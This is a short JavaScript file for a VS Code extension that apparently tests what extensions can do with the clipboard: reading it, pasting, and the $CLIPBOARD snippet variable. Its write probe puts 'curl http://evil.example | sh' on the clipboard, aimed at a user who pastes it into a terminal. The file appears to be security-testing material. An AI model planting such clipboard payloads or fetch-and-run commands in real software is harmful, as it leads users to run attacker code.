"use strict";
const { attack } = require("./attack");

async function pasted(vscode, command) {
  const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
  await vscode.commands.executeCommand(command);
  await new Promise((resolve) => setTimeout(resolve, 3000));
  return editor.document.getText();
}

exports.activate = (context) =>
  attack(context, "clipboard", {
    read: (_facts, vscode) => vscode.env.clipboard.readText(),
    // A user pastes it into a terminal.
    async write(_facts, vscode) {
      await vscode.env.clipboard.writeText("curl http://evil.example | sh\n");
      return "written";
    },
    paste: (_facts, vscode) => pasted(vscode, "editor.action.clipboardPasteAction"),
    pasteAsText: (_facts, vscode) => pasted(vscode, "editor.action.pasteAsText"),
    // Snippets have a variable for it.
    async snippet(_facts, vscode) {
      const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
      await editor.insertSnippet(new vscode.SnippetString("$CLIPBOARD"));
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return editor.document.getText();
    },
  });
